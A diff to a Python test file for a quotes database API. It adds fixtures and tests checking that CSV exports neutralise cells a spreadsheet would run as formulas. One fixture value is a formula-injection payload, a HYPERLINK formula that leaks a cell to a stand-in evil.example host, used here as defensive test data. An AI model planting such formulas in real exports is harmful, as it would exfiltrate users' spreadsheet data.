@@ -53,15 +53,95 @@ def test_invalid_filters_are_400(client):
     assert client.get("/v1/export", query_string={"lang": "english"}).status_code == 400
 
 
+SOURCE = {
+    "url": "https://news.example.org/every-detail",
+    "title": "-Minus title",
+    "publisher": "@Publisher",
+    "agency": "+Agency",
+    "authors": ["=First Author", "Second Author"],
+    "published_at": "2019-04-24T10:30:00+00:00",
+    "lang": "en",
+    "kind": "transcript",
+}
+# Every status, translation, citation detail and an unnamed speaker, with cells a
+# spreadsheet would run as formulas (= + - @ and a tab) and cells that start with quotes.
+EVERY_DETAIL = [
+    {
+        "text": '=HYPERLINK("https://evil.example/?leak="&A1, "click")',
+        "lang": "en",
+        "kind": "direct",
+        "status": "verified",
+        "speaker": {
+            "name": "@Newsroom Desk",
+            "kind": "organisation",
+            "aliases": ["+Plus Desk", "'=Quoted Desk"],
+            "wikidata_id": "Q4115189",
+            "roles": [
+                {"title": "=Spokesperson", "organisation": "Org", "from": "2019-01-01", "to": "2020-06-30"}
+            ],
+        },
+        "speaker_role": "-the desk",
+        "said_on": "2019-04-01",
+        "said_on_precision": "month",
+        "context": "\tTabbed context",
+        "topics": ["=topic", "plain"],
+        "translations": [
+            {"lang": "ru", "text": "@перевод", "translator": "=Translator"},
+            {"lang": "fr", "text": "traduction"},
+            {"lang": "de", "text": "Übersetzung", "translator": "'quoted"},
+        ],
+        "citations": [
+            {"source": SOURCE, "printed_text": "=printed", "attribution": "+said", "via": "@RIA"},
+            {"source": {"title": "Second outlet", "publisher": "P2"}, "printed_text": "Two"},
+        ],
+    },
+    *[
+        {
+            "text": f"A statement now {status}.",
+            "lang": "en",
+            "kind": "indirect",
+            "status": status,
+            "status_note": f"=note on why it is {status}",
+            "speaker_description": "@an unnamed official",
+            "source": {"title": "Corrections", "publisher": "Example Wire"},
+        }
+        for status in ("unverified", "disputed", "misattributed", "retracted")
+    ],
+]
+
+
+def with_every_detail(client) -> None:
+    body = "".join(json.dumps(line, ensure_ascii=False) + "\n" for line in EVERY_DETAIL).encode()
+    response = client.post("/v1/imports", data=body, content_type="application/x-ndjson")
+    assert response.get_json()["created"] == len(EVERY_DETAIL), response.get_json()
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(client):
+    with_every_detail(client)
+    rows = list(csv.DictReader(io.StringIO(exported(client, format="csv").removeprefix("\ufeff"))))
+    [row] = [row for row in rows if row["citation_printed_text"] == "'=printed"]
+    assert row["text"].startswith("'=HYPERLINK") and row["speaker"] == "'@Newsroom Desk"
+    assert row["context"] == "'\tTabbed context" and row["citation_attribution"] == "'+said"
+    formula = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(formula)]
+
+
+@pytest.mark.parametrize("data", ["demo", "every detail"])
 @pytest.mark.parametrize("fmt,mimetype", [("ndjson", "application/x-ndjson"), ("csv", "text/csv")])
-def test_an_export_imported_into_an_empty_database_exports_the_same(client, fresh_database, fmt, mimetype):
+def test_an_export_imported_into_an_empty_database_gives_the_same_records(
+    client, fresh_database, data, fmt, mimetype
+):
+    if data == "every detail":
+        with_every_detail(client)
+    records = exported(client, format="ndjson")
     original = exported(client, format=fmt)
     app = create_app(database_url=fresh_database)
     try:
         empty = app.test_client()
         empty.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {new_key(fresh_database)}"
         report = empty.post("/v1/imports", data=original.encode(), content_type=mimetype).get_json()
-        assert (report["created"], report["failed"]) == (46, 0)
+        assert (report["created"], report["failed"]) == (len(records.splitlines()), 0), report["errors"][:3]
+        assert exported(empty, format="ndjson") == records
         assert exported(empty, format=fmt) == original
     finally:
         app.extensions["db"].engine.dispose()
